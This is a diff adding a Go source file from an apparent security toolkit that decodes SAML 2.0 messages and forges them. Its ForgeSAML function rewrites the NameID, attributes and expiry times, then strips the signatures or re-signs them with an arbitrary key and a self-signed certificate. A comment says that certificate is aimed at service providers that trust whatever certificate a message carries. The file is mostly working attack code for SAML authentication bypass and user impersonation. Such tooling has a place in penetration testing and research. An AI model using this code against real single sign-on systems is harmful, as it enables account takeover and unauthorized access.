@@ -0,0 +1,454 @@
+package core
+
+import (
+	"bytes"
+	"compress/flate"
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/base64"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"math/big"
+	"net/url"
+	"sort"
+	"strings"
+	"time"
+	"toolkit/models"
+)
+
+// Namespaces and algorithm identifiers of SAML 2.0 messages and their XML signatures.
+const (
+	samlProtocolNS  = "urn:oasis:names:tc:SAML:2.0:protocol"
+	samlAssertionNS = "urn:oasis:names:tc:SAML:2.0:assertion"
+	xmlDSigNS       = "http://www.w3.org/2000/09/xmldsig#"
+
+	xmlExcC14NAlgorithm     = "http://www.w3.org/2001/10/xml-exc-c14n#"
+	xmlEnvelopedAlgorithm   = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
+	xmlSHA256Algorithm      = "http://www.w3.org/2001/04/xmlenc#sha256"
+	xmlRSASHA256Algorithm   = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
+	xmlECDSASHA256Algorithm = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
+)
+
+// samlMaxInflated caps the size of a deflated SAML message once inflated.
+const samlMaxInflated = 4 << 20
+
+// decodeSAMLMessage returns the XML of a SAML message and how it was encoded: base64 (HTTP-POST
+// binding), deflated then base64 (HTTP-Redirect binding) or plain XML. URL-escaped messages are
+// unescaped first.
+func decodeSAMLMessage(message string) ([]byte, string, error) {
+	s := strings.TrimSpace(message)
+	if strings.HasPrefix(s, "<") {
+		return []byte(s), models.SAMLEncodingXML, nil
+	}
+	if strings.Contains(s, "%") {
+		// PathUnescape leaves '+' alone; it is part of the base64 alphabet
+		if unescaped, err := url.PathUnescape(s); err == nil {
+			s = unescaped
+		}
+	}
+	s = strings.Join(strings.Fields(s), "")
+	raw, err := base64.StdEncoding.DecodeString(s)
+	if err != nil {
+		if raw, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(s, "=")); err != nil {
+			return nil, "", fmt.Errorf("invalid SAML message: not XML or base64")
+		}
+	}
+	if trimmed := bytes.TrimSpace(raw); bytes.HasPrefix(trimmed, []byte("<")) {
+		return trimmed, models.SAMLEncodingBase64, nil
+	}
+	inflated, err := io.ReadAll(io.LimitReader(flate.NewReader(bytes.NewReader(raw)), samlMaxInflated))
+	if err == nil {
+		if trimmed := bytes.TrimSpace(inflated); bytes.HasPrefix(trimmed, []byte("<")) {
+			return trimmed, models.SAMLEncodingDeflate, nil
+		}
+	}
+	return nil, "", fmt.Errorf("invalid SAML message: base64 data is neither XML nor deflated XML")
+}
+
+// encodeSAMLMessage encodes the XML of a SAML message the way the original was.
+func encodeSAMLMessage(doc []byte, encoding string) (string, error) {
+	switch encoding {
+	case models.SAMLEncodingXML:
+		return string(doc), nil
+	case models.SAMLEncodingDeflate:
+		var buf bytes.Buffer
+		w, err := flate.NewWriter(&buf, flate.BestCompression)
+		if err != nil {
+			return "", err
+		}
+		if _, err := w.Write(doc); err != nil {
+			return "", err
+		}
+		if err := w.Close(); err != nil {
+			return "", err
+		}
+		return base64.StdEncoding.EncodeToString(buf.Bytes()), nil
+	default:
+		return base64.StdEncoding.EncodeToString(doc), nil
+	}
+}
+
+// xmlDeclaration returns the <?xml ...?> declaration a document starts with, if any.
+func xmlDeclaration(doc []byte) string {
+	if !bytes.HasPrefix(doc, []byte("<?xml")) {
+		return ""
+	}
+	if end := bytes.Index(doc, []byte("?>")); end >= 0 {
+		return string(doc[:end+2])
+	}
+	return ""
+}
+
+// DecodeSAML decodes a SAML message and summarizes it. Signatures are not checked.
+func DecodeSAML(message string) (*models.DecodedSAML, error) {
+	doc, encoding, err := decodeSAMLMessage(message)
+	if err != nil {
+		return nil, err
+	}
+	root, err := parseXMLTree(doc)
+	if err != nil {
+		return nil, err
+	}
+	return samlSummary(root, encoding, string(doc)), nil
+}
+
+func samlSummary(root *xmlNode, encoding, doc string) *models.DecodedSAML {
+	decoded := &models.DecodedSAML{
+		MessageType:        root.local,
+		Encoding:           encoding,
+		XML:                doc,
+		SignedElements:     samlSignedElements(root),
+		EncryptedAssertion: root.findFirst(samlAssertionNS, "EncryptedAssertion") != nil,
+	}
+	if issuer := root.findFirst(samlAssertionNS, "Issuer"); issuer != nil {
+		decoded.Issuer = strings.TrimSpace(issuer.text())
+	}
+	if nameID := root.findFirst(samlAssertionNS, "NameID"); nameID != nil {
+		decoded.NameID = strings.TrimSpace(nameID.text())
+	}
+	if audience := root.findFirst(samlAssertionNS, "Audience"); audience != nil {
+		decoded.Audience = strings.TrimSpace(audience.text())
+	}
+	decoded.Destination, _ = root.attr("Destination")
+	decoded.InResponseTo, _ = root.attr("InResponseTo")
+	if conditions := root.findFirst(samlAssertionNS, "Conditions"); conditions != nil {
+		decoded.NotBefore = samlTimeAttr(conditions, "NotBefore")
+		decoded.NotOnOrAfter = samlTimeAttr(conditions, "NotOnOrAfter")
+	}
+	for _, attr := range root.find(samlAssertionNS, "Attribute") {
+		name, ok := attr.attr("Name")
+		if !ok {
+			continue
+		}
+		if decoded.Attributes == nil {
+			decoded.Attributes = make(map[string][]string)
+		}
+		values := []string{}
+		for _, v := range attr.childElements(samlAssertionNS, "AttributeValue") {
+			values = append(values, strings.TrimSpace(v.text()))
+		}
+		decoded.Attributes[name] = append(decoded.Attributes[name], values...)
+	}
+	if method := root.findFirst(xmlDSigNS, "SignatureMethod"); method != nil {
+		decoded.SignatureAlgorithm, _ = method.attr("Algorithm")
+	}
+	return decoded
+}
+
+// samlSignedElements returns the names of the elements carrying an enveloped signature.
+func samlSignedElements(root *xmlNode) []string {
+	signed := []string{}
+	for _, sig := range root.find(xmlDSigNS, "Signature") {
+		if sig.parent != nil {
+			signed = append(signed, sig.parent.local)
+		}
+	}
+	return signed
+}
+
+func samlTimeAttr(n *xmlNode, name string) *time.Time {
+	v, ok := n.attr(name)
+	if !ok {
+		return nil
+	}
+	t, err := time.Parse(time.RFC3339, v)
+	if err != nil {
+		return nil
+	}
+	t = t.UTC()
+	return &t
+}
+
+// ForgeSAML edits a SAML message and keeps, strips or redoes its signatures. The result is
+// encoded like the original; a message given only as req.XML is base64-encoded.
+func ForgeSAML(message string, req models.SAMLForgeRequest) (string, *models.DecodedSAML, error) {
+	var doc []byte
+	encoding := models.SAMLEncodingBase64
+	if message != "" {
+		var err error
+		if doc, encoding, err = decodeSAMLMessage(message); err != nil {
+			return "", nil, err
+		}
+	}
+	if req.XML != "" {
+		doc = bytes.TrimSpace([]byte(req.XML))
+	}
+	if len(doc) == 0 {
+		return "", nil, fmt.Errorf("invalid request: a token, token_id or xml is required")
+	}
+	root, err := parseXMLTree(doc)
+	if err != nil {
+		return "", nil, err
+	}
+	originallySigned := samlSignedElements(root)
+
+	if req.NameID != "" {
+		for _, nameID := range root.find(samlAssertionNS, "NameID") {
+			nameID.setText(req.NameID)
+		}
+	}
+	if err := setSAMLAttributes(root, req.Attributes); err != nil {
+		return "", nil, err
+	}
+	if req.NotOnOrAfter != nil {
+		value := req.NotOnOrAfter.UTC().Format("2006-01-02T15:04:05Z")
+		for _, conditions := range root.find(samlAssertionNS, "Conditions") {
+			conditions.setAttr("NotOnOrAfter", value)
+		}
+		for _, data := range root.find(samlAssertionNS, "SubjectConfirmationData") {
+			if _, ok := data.attr("NotOnOrAfter"); ok {
+				data.setAttr("NotOnOrAfter", value)
+			}
+		}
+	}
+
+	switch req.Signature {
+	case "", models.SAMLSignatureKeep:
+	case models.SAMLSignatureStrip:
+		stripSAMLSignatures(root)
+	case models.SAMLSignatureResign:
+		targets := req.SignElements
+		if len(targets) == 0 {
+			targets = originallySigned
+		}
+		if len(targets) == 0 {
+			targets = []string{root.local}
+			if root.findFirst(samlAssertionNS, "Assertion") != nil {
+				targets = []string{"Assertion"}
+			}
+		}
+		if err := resignSAML(root, targets, req.Key, req.Certificate); err != nil {
+			return "", nil, err
+		}
+	default:
+		return "", nil, fmt.Errorf("invalid signature '%s': expected keep, strip or resign", req.Signature)
+	}
+
+	var out bytes.Buffer
+	out.WriteString(xmlDeclaration(doc))
+	root.serialize(&out)
+	token, err := encodeSAMLMessage(out.Bytes(), encoding)
+	if err != nil {
+		return "", nil, err
+	}
+	return token, samlSummary(root, encoding, out.String()), nil
+}
+
+// setSAMLAttributes replaces the values of assertion attributes. Existing AttributeValue elements
+// serve as the template for the new values (keeping their xsi:type); attributes the message does
+// not have are added to its first AttributeStatement.
+func setSAMLAttributes(root *xmlNode, attributes map[string][]string) error {
+	names := make([]string, 0, len(attributes))
+	for name := range attributes {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	for _, name := range names {
+		var found []*xmlNode
+		for _, attr := range root.find(samlAssertionNS, "Attribute") {
+			if v, _ := attr.attr("Name"); v == name {
+				found = append(found, attr)
+			}
+		}
+		if len(found) == 0 {
+			statement := root.findFirst(samlAssertionNS, "AttributeStatement")
+			if statement == nil {
+				return fmt.Errorf("invalid attributes: the message has no AttributeStatement to add '%s' to", name)
+			}
+			attr := &xmlNode{prefix: statement.prefix, local: "Attribute", attrs: []xmlAttr{{local: "Name", value: name}}}
+			statement.appendChild(attr)
+			found = append(found, attr)
+		}
+		for _, attr := range found {
+			template := &xmlNode{prefix: attr.prefix, local: "AttributeValue"}
+			if existing := attr.childElements(samlAssertionNS, "AttributeValue"); len(existing) > 0 {
+				template = existing[0]
+			}
+			attr.removeChildren(func(c *xmlNode) bool {
+				return c.local == "AttributeValue" && c.space() == samlAssertionNS
+			})
+			for _, value := range attributes[name] {
+				v := &xmlNode{prefix: template.prefix, local: template.local, attrs: append([]xmlAttr(nil), template.attrs...)}
+				v.setText(value)
+				attr.appendChild(v)
+			}
+		}
+	}
+	return nil
+}
+
+// stripSAMLSignatures removes every XML signature from the message.
+func stripSAMLSignatures(root *xmlNode) {
+	for _, sig := range root.find(xmlDSigNS, "Signature") {
+		if sig.parent != nil {
+			sig.parent.removeChildren(func(c *xmlNode) bool { return c == sig })
+		}
+	}
+}
+
+// resignSAML replaces the signatures of the message with enveloped signatures of the target
+// elements (Response, Assertion, ...) made with key. Inner elements are signed first so that the
+// signature of an enclosing element covers theirs.
+func resignSAML(root *xmlNode, targets []string, key, certificate string) error {
+	if key == "" {
+		return fmt.Errorf("invalid key: resign needs a PEM private key")
+	}
+	signer, err := parsePrivateKeyPEM(key)
+	if err != nil {
+		return err
+	}
+	var certDER []byte
+	if certificate != "" {
+		block, _ := pem.Decode([]byte(certificate))
+		if block == nil || block.Type != "CERTIFICATE" {
+			return fmt.Errorf("invalid certificate: expected a PEM certificate")
+		}
+		certDER = block.Bytes
+	} else if certDER, err = selfSignedCertificate(signer); err != nil {
+		return fmt.Errorf("failed to create a certificate for the key: %w", err)
+	}
+
+	var elements []*xmlNode
+	seen := make(map[*xmlNode]bool)
+	for _, name := range targets {
+		var matched []*xmlNode
+		for _, ns := range []string{samlProtocolNS, samlAssertionNS} {
+			matched = append(matched, root.find(ns, name)...)
+		}
+		if len(matched) == 0 {
+			return fmt.Errorf("invalid sign_elements: the message has no %s element", name)
+		}
+		for _, e := range matched {
+			if !seen[e] {
+				seen[e] = true
+				elements = append(elements, e)
+			}
+		}
+	}
+	sort.SliceStable(elements, func(i, j int) bool { return xmlDepth(elements[i]) > xmlDepth(elements[j]) })
+
+	stripSAMLSignatures(root)
+	for _, e := range elements {
+		if err := signSAMLElement(e, signer, certDER); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func xmlDepth(n *xmlNode) int {
+	depth := 0
+	for e := n.parent; e != nil; e = e.parent {
+		depth++
+	}
+	return depth
+}
+
+// signSAMLElement adds an enveloped signature (exclusive c14n, SHA-256) to an element, after its
+// Issuer as the SAML schema requires.
+func signSAMLElement(e *xmlNode, signer crypto.Signer, certDER []byte) error {
+	var id string
+	for _, name := range []string{"ID", "AssertionID", "ResponseID"} {
+		if v, ok := e.attr(name); ok {
+			id = v
+			break
+		}
+	}
+	if id == "" {
+		return fmt.Errorf("invalid sign_elements: %s has no ID attribute to reference", e.local)
+	}
+	var algorithm string
+	switch signer.(type) {
+	case *rsa.PrivateKey:
+		algorithm = xmlRSASHA256Algorithm
+	case *ecdsa.PrivateKey:
+		algorithm = xmlECDSASHA256Algorithm
+	default:
+		return fmt.Errorf("invalid key: expected an RSA or ECDSA private key")
+	}
+
+	// The element is digested without the signature, as the enveloped-signature transform sees it
+	digest := sha256.Sum256(e.canonicalBytes(nil))
+	sigXML := `<ds:Signature xmlns:ds="` + xmlDSigNS + `"><ds:SignedInfo>` +
+		`<ds:CanonicalizationMethod Algorithm="` + xmlExcC14NAlgorithm + `"></ds:CanonicalizationMethod>` +
+		`<ds:SignatureMethod Algorithm="` + algorithm + `"></ds:SignatureMethod>` +
+		`<ds:Reference URI="#` + escapeC14NAttr(id) + `"><ds:Transforms>` +
+		`<ds:Transform Algorithm="` + xmlEnvelopedAlgorithm + `"></ds:Transform>` +
+		`<ds:Transform Algorithm="` + xmlExcC14NAlgorithm + `"></ds:Transform></ds:Transforms>` +
+		`<ds:DigestMethod Algorithm="` + xmlSHA256Algorithm + `"></ds:DigestMethod>` +
+		`<ds:DigestValue>` + base64.StdEncoding.EncodeToString(digest[:]) + `</ds:DigestValue>` +
+		`</ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>` +
+		`<ds:KeyInfo><ds:X509Data><ds:X509Certificate>` + base64.StdEncoding.EncodeToString(certDER) +
+		`</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature>`
+	sig, err := parseXMLTree([]byte(sigXML))
+	if err != nil {
+		return err
+	}
+	position := 0
+	for i, c := range e.children {
+		if c.elem != nil && c.elem.local == "Issuer" && c.elem.space() == samlAssertionNS {
+			position = i + 1
+			break
+		}
+	}
+	e.insertChild(position, sig)
+
+	// SignedInfo is canonicalized in place, where the ds namespace is in scope
+	signedInfo := sig.childElements(xmlDSigNS, "SignedInfo")[0]
+	hashed := sha256.Sum256(signedInfo.canonicalBytes(nil))
+	var value []byte
+	if ecKey, ok := signer.(*ecdsa.PrivateKey); ok {
+		value, err = signECDSAFixed(ecKey, hashed[:])
+	} else {
+		value, err = signer.Sign(rand.Reader, hashed[:], crypto.SHA256)
+	}
+	if err != nil {
+		return fmt.Errorf("failed to sign %s: %w", e.local, err)
+	}
+	sig.childElements(xmlDSigNS, "SignatureValue")[0].setText(base64.StdEncoding.EncodeToString(value))
+	return nil
+}
+
+// selfSignedCertificate creates a certificate for the key to put in KeyInfo, for service
+// providers that trust whatever certificate the message carries.
+func selfSignedCertificate(signer crypto.Signer) ([]byte, error) {
+	serial, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 62))
+	if err != nil {
+		return nil, err
+	}
+	now := time.Now()
+	template := &x509.Certificate{
+		SerialNumber: serial,
+		Subject:      pkix.Name{CommonName: "toolkit"},
+		NotBefore:    now.Add(-time.Hour),
+		NotAfter:     now.AddDate(10, 0, 0),
+		KeyUsage:     x509.KeyUsageDigitalSignature,
+	}
+	return x509.CreateCertificate(rand.Reader, template, template, signer.Public(), signer)
+}